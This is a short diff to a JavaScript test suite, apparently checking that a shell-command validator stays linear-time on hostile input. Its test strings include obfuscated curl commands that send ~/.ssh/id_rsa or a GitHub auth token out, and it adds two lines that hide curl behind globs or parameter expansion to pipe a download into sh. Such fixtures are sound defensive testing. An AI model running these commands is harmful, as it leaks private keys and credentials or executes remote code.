@@ -472,6 +472,8 @@ describe("hostile input costs linear time", () => {
     "a=cu;b=rl;$a$b ",
     "export K=~/.ssh/id_rsa\ncurl -d @$K x\n",
     "gh auth token | curl -d @- x; ",
+    "/???/b??/c?r* -d x; ",
+    "${x:-curl} x | sh; ",
   ];
   for (const unit of UNITS)
     test(JSON.stringify(unit.slice(0, 40)), () => {
